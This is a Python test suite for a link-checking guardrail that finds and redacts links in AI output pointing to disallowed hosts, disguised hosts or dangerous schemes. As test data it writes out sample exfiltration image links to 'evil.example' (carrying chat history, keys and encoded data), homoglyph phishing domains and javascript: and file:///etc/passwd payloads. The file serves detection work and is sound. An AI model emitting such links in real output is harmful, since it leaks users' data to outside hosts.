"""Where links lead: as browsers read addresses, streamed or whole."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plimsoll.checks.plain import _links, links
from plimsoll.guardrails import Policy
from plimsoll.kernel.digest import Json

HOSTED = links(hosts=["example.org", "*.good.example"])
ANY = links()
BLOB = "aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRhIDEyMw"


def found(text: str, *, hosts: bool = True) -> list[tuple[str, str]]:
    return [(one.kind, text[one.start : one.end]) for one in (HOSTED if hosts else ANY).find(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://evil.example/a, then go", [("link", "https://evil.example/a")]),
        ("www.evil.example/x is it", [("link", "www.evil.example/x")]),
        ("<https://evil.example/x>", [("link", "https://evil.example/x")]),
        ("[a](https://evil.example/x)", [("link", "https://evil.example/x")]),
        ("![a](https://evil.example/x.png)", [("image", "![a](https://evil.example/x.png)")]),
        ('![a](https://evil.example/x.png "a title")', [("image", '![a](https://evil.example/x.png "a title")')]),
        ("![a. b][x]\n\n[x]: https://evil.example/x", [("image", "[x]: https://evil.example/x")]),
        ("<img alt='a > b' src='//evil.example/x'>", [("image", "src='//evil.example/x")]),
        ("<video poster=https://evil.example/x>", [("image", "poster=https://evil.example/x")]),
        ("a{background:url(https://evil.example/x)}", [("image", "url(https://evil.example/x)")]),
        ("https://EXAMPLE.org./x", []),
        ("https://a.b.good.example/x and https://example.org:8443/?q=the+secret+words", []),
        ("https://good.example", [("link", "https://good.example")]),
        ("https://example.org.evil.example/", [("link", "https://example.org.evil.example/")]),
        ("https://evilexample.org/", [("link", "https://evilexample.org/")]),
        ("http:\\\\evil.example\\x", [("link", "http:\\\\evil.example\\x")]),
        ("Where is good.example? note:this data: the file is 3:4 http:// and ://", []),
    ],
)
def test_what_leads_to_another_host_is_found(text: str, expected: list[tuple[str, str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("![a](https://evil.example/p.png?q=the+secret+is+out)", ["exfiltration"]),
        (f"![](https://evil.example/?d={BLOB})", ["exfiltration"]),
        (f"[x]: https://evil.example/?d={BLOB}", ["exfiltration"]),
        (f"[click](https://evil.example/?d={BLOB})", ["exfiltration"]),
        (f"https://{BLOB.lower()}.evil.example/", ["exfiltration"]),
        (f"![](https://evil.example/{BLOB * 2}/p.png)", ["exfiltration"]),
        ("![](https://evil.example/{chat_history})", ["exfiltration"]),
        ("![](https://evil.example/?key=hunter2secret)", ["exfiltration"]),
        ("<img src='https://evil.example/?q=what%20you%20said%20to%20me'>", ["exfiltration"]),
        ("![logo](https://img.example/badge/build-passing-green.svg)", []),
        ("![x](https://img.example/a.png?v=3&w=200&h=100)", []),
        ("https://search.example/?q=opening+hours+harbour", []),
        ("https://video.example/watch?v=dQw4w9WgXcQ", []),
        ("https://code.example/a/commit/3f9c2a7d8e1b4c5d6e7f8091a2b3c4d5e6f70812", []),
        ("https://news.example/2024/05/how-to-open-the-harbour-in-the-morning-without-a-key", []),
        ("https://shop.example/?utm_source=newsletter&utm_campaign=spring", []),
        ("http://bank.example@evil.example/", ["disguise"]),
        ("http://10.1.2.3/x", ["disguise"]),
        ("http://3232235777/", ["disguise"]),
        ("http://0x7f.1/", ["disguise"]),
        ("http://[2001:db8::1]/", []),
        ("http://\u0430\u0440\u0440\u04cf\u0435.example/", ["disguise"]),
        ("http://p\u0430ypal.example/", ["disguise"]),
        ("http://xn--80ak6aa92e.example/", ["disguise"]),
        (
            "http://m\u00fcnchen.example/ http://\u6771\u4eac.example/ http://\u0440\u043e\u0441\u0441\u0438\u044f.example/",
            [],
        ),
        ("[c](javascript:alert(1))", ["scheme"]),
        ("<a href=' javascript:alert(1)'>", ["scheme"]),
        ("JavaScript:alert(1)", ["scheme"]),
        ("data:text/html;base64,PHNjcmlwdD4=", ["scheme"]),
        ("[x](ftp://files.example/f) and file:///etc/passwd", ["scheme", "scheme"]),
        ("mailto:bob@example.org, [m](mailto:bob@example.org), [t](tel:+4989123)", []),
    ],
)
def test_without_hosts_only_what_is_wrong_of_itself_is_found(text: str, kinds: list[str]) -> None:
    assert [kind for kind, _ in found(text, hosts=False)] == kinds


def test_hosts_that_are_allowed_may_be_sent_data_and_numbers_may_be_hosts() -> None:
    own = links(hosts=["10.1.2.3", "img.example"])
    assert own.find("http://10.1.2.3/x ![](https://img.example/?q=the+secret+is+out)") == []
    assert [one.kind for one in own.find("http://bank.example@img.example/")] == ["disguise"]


def test_schemes_are_those_of_the_policy() -> None:
    only = links(schemes=["https"])
    assert [one.kind for one in only.find("http://a.example ftp://b.example https://c.example")] == ["scheme"] * 2


def test_other_options_are_another_version() -> None:
    made = [links(), links(hosts=[]), links(hosts=["a.example"]), links(schemes=["https"])]
    assert len({one.version for one in made}) == len(made)


ENTITIES = (
    "![a](https://evil.example/p.png?q=the+secret+is+out)",
    "<img src='//evil.example/x.png'>",
    "[x]: https://evil.example/?d=1",
    "http:\\\\evil.example\\x",
    "[c](javascript:alert(1))",
    "www.evil.example/x.",
)
RULES: Json = {
    "checks": [{"check": "links", "options": {"hosts": ["example.org"]}, "on": ["output"], "action": "redact"}]
}
POLICY = Policy.from_json("p", RULES)


@pytest.mark.parametrize("entity", ENTITIES)
def test_every_cut_of_a_stream_gives_what_the_whole_gives(entity: str) -> None:
    text = f"See \u00e9 {entity} and https://example.org/x now."
    whole = POLICY.review(text, "output")
    assert "evil" not in whole.text
    for at in range(len(text) + 1):
        stream = POLICY.stream("output")
        steps = [stream.feed(text[:at]), stream.feed(text[at:]), stream.close()]
        assert "".join(step.text for step in steps) == whole.text, at
        assert [step.review.findings for step in steps if step.review is not None] == [whole.findings]


@settings(max_examples=40)
@given(st.lists(st.sampled_from([*ENTITIES, " ", "a", "](", "![", "://", "\n", "http", "."]), max_size=12), st.data())
def test_any_cuts_of_any_text_give_what_the_whole_gives(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    whole = POLICY.review(text, "output")
    stream, out = POLICY.stream("output"), []
    while text:
        size = data.draw(st.integers(1, len(text)))
        out.append(stream.feed(text[:size]).text)
        text = text[size:]
    out.append(stream.close().text)
    assert "".join(out) == whole.text


BEFORE = (
    "![",
    "a",
    "](",
    "[a]:",
    "]:",
    "src",
    "=",
    " ",
    "\u2028",
    "\x1c",
    "<",
    '"',
    "'",
    "url(",
    "URL(",
    "xsrc",
    "DATA",
    "\n",
    "]",
    "(",
)


@given(st.lists(st.sampled_from(BEFORE), max_size=12).map("".join))
@settings(max_examples=400, deadline=None)
def test_what_is_seen_at_once_of_loading_is_what_the_expression_says(before: str) -> None:
    assert _links._is_loaded(before) is (_links._BEFORE_LOADING.search(before) is not None)
